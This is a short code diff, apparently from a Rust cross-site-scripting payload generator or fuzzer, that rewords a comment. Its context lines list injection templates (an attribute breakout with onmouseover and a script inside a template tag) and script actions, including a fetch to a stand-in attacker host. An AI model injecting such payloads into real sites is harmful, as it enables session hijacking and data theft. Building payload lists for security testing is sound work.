@@ -46,7 +46,7 @@ const SHAPES: [&str; 21] = [
     "' onmouseover={} x='",
     "<template><script>{}</script></template>",
 ];
-/// Actions of a script.
+/// Actions that an injected script may take.
 const ACTIONS: [&str; 10] = [
     "alert(1)",
     "fetch('//evil.example')",
